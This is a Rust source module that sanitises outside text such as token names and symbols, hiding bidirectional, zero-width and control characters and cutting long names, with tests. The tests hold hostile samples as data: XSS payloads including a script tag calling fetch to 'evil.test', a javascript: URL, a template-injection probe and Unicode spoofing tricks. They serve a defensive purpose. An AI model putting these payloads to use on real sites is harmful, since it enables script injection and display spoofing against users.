//! Text from outside (names, symbols, errors) made safe to look at (security.md 4.4).

/// Longest name or symbol shown, in characters.
const LONGEST: usize = 64;

/// A short text from outside: controls dropped, direction and zero-width characters replaced by a visible mark, cut.
pub fn shown(text: &str) -> String {
    let clean = shown_long(text);
    if clean.chars().count() <= LONGEST { clean } else { clean.chars().take(LONGEST - 1).chain(['…']).collect() }
}

/// The same without the cut, for texts that must be seen whole.
pub fn shown_long(text: &str) -> String {
    text.chars().filter(|c| !c.is_control() || matches!(c, '\n' | '\t')).map(|c| if is_hidden(c) { '\u{FFFD}' } else { c }).collect()
}

/// The same with the number of each hidden character in its place: `⟨U+202E⟩`. For what is signed.
pub fn tagged(text: &str) -> String {
    let tag = |c: char| if is_unseen(c) { format!("⟨U+{:04X}⟩", u32::from(c)) } else { c.to_string() };
    text.chars().map(tag).collect()
}

/// How many characters of it cannot be seen.
pub fn hidden_count(text: &str) -> usize {
    text.chars().filter(|c| is_unseen(*c)).count()
}

fn is_unseen(c: char) -> bool {
    is_hidden(c) || (c.is_control() && !matches!(c, '\n' | '\t'))
}

/// Characters that change how others are read, or that cannot be seen.
fn is_hidden(c: char) -> bool {
    matches!(c,
        '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}' | '\u{115F}' | '\u{1160}' | '\u{3164}' | '\u{FFA0}' | '\u{FFF9}'..='\u{FFFB}' | '\u{2060}'..='\u{2069}' | '\u{061C}' | '\u{FEFF}' | '\u{00AD}'
        | '\u{FE00}'..='\u{FE0F}' | '\u{E0000}'..='\u{E0FFF}' | '\u{180B}'..='\u{180F}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_text_is_shown_without_its_tricks() {
        const TRICKS: [&str; 12] = [
            "\u{202E}",
            "\u{2066}x\u{2069}",
            "\u{200B}",
            "\u{200D}",
            "\u{FEFF}",
            "\u{E0041}",
            "\u{FE0F}",
            "\u{0}",
            "\u{1b}[31m",
            "\u{85}",
            "\u{2028}",
            "\u{3164}",
        ];
        const TEXTS: [&str; 6] = [
            "USDT",
            "<img src=x onerror=alert(1)>",
            "'\"><script>fetch('//evil.test')</script>",
            "javascript:alert(1)",
            "0x2fdEB96d578e1183F60835110F8C7E667A48870B",
            "{{7*7}}",
        ];
        let unseen = |text: &str| text.chars().any(|c| c.is_control() || is_hidden(c));
        let (mut tried, mut held, mut raw) = (0, 0, 0);
        for trick in TRICKS {
            for text in TEXTS {
                for (at, times) in [(0, 1), (1, 1), (2, 3), (3, 40), (4, 100_000), (usize::MAX, 2), (1, 64)] {
                    let at = at.min(text.len());
                    let hostile = format!("{}{}{}", &text[..at], trick.repeat(times), &text[at..]);
                    let harmless = shown(&hostile);
                    tried += 1;
                    held += usize::from(!unseen(&harmless) && harmless.chars().count() <= LONGEST);
                    raw += usize::from(unseen(&hostile));
                }
            }
        }
        crate::attack::held("Hostile text", tried, held);
        crate::attack::control("Hostile text", "shown as it came, with what cannot be seen", raw);
    }

    #[test]
    fn direction_tricks_become_visible_and_long_names_are_cut() {
        assert_eq!(shown("US\u{202E}DT"), "US\u{FFFD}DT");
        assert_eq!(shown("a\u{200B}b\u{0007}"), "a\u{FFFD}b");
        assert_eq!(shown(&"x".repeat(1000)).chars().count(), 64);
        assert_eq!(shown("Ngozi Eze"), "Ngozi Eze");
        assert_eq!(tagged("a\u{202E}b\r\n"), "a⟨U+202E⟩b⟨U+000D⟩\n");
    }
}
